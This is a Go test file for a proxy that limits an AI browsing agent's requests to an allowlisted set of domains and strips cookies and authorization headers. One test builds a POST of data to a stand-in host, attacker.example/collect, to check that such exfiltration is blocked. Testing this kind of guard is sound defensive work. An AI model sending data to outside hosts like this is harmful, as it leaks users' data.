package netguard

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/jeffcmilberger/openclaw-browser-guard/api/schemas"
	"github.com/jeffcmilberger/openclaw-browser-guard/internal/httpfilter"
)

func newTestProxy(t *testing.T) *EnforcementProxy {
	t.Helper()
	in := &schemas.Intent{
		Goal:           "read techcrunch",
		TaskType:       schemas.TaskExtract,
		AllowedDomains: []string{"techcrunch.com", "www.techcrunch.com"},
		TimeoutMs:      60_000,
	}
	return NewEnforcementProxy(httpfilter.FromIntent(in, zap.NewNop()), zap.NewNop())
}

func TestProxyDeniesOffAllowlist(t *testing.T) {
	p := newTestProxy(t)

	req := httptest.NewRequest(http.MethodPost, "https://attacker.example/collect", strings.NewReader("data"))
	_, resp := p.onRequest(req, nil)

	require.NotNil(t, resp, "a denied request must get a synthesized response")
	assert.Equal(t, http.StatusForbidden, resp.StatusCode)
}

func TestProxyAllowsAndStrips(t *testing.T) {
	p := newTestProxy(t)

	req := httptest.NewRequest(http.MethodGet, "https://techcrunch.com/article", nil)
	req.Header.Set("Cookie", "session=abc")
	req.Header.Set("Authorization", "Bearer tok")
	req.Header.Set("Accept", "text/html")

	out, resp := p.onRequest(req, nil)

	require.Nil(t, resp, "an allowed request passes through")
	// Extract-task policy is allow_public: credentials are stripped.
	assert.Empty(t, out.Header.Get("Cookie"))
	assert.Empty(t, out.Header.Get("Authorization"))
	assert.Equal(t, "text/html", out.Header.Get("Accept"))
}

func TestProxyHonorsRefererPolicy(t *testing.T) {
	p := newTestProxy(t)

	// A request to the allowlisted host with the allowed page as referer
	// passes.
	req := httptest.NewRequest(http.MethodGet, "https://techcrunch.com/wp-json/feed", nil)
	req.Header.Set("Referer", "https://techcrunch.com/article")

	_, resp := p.onRequest(req, nil)
	assert.Nil(t, resp)
}
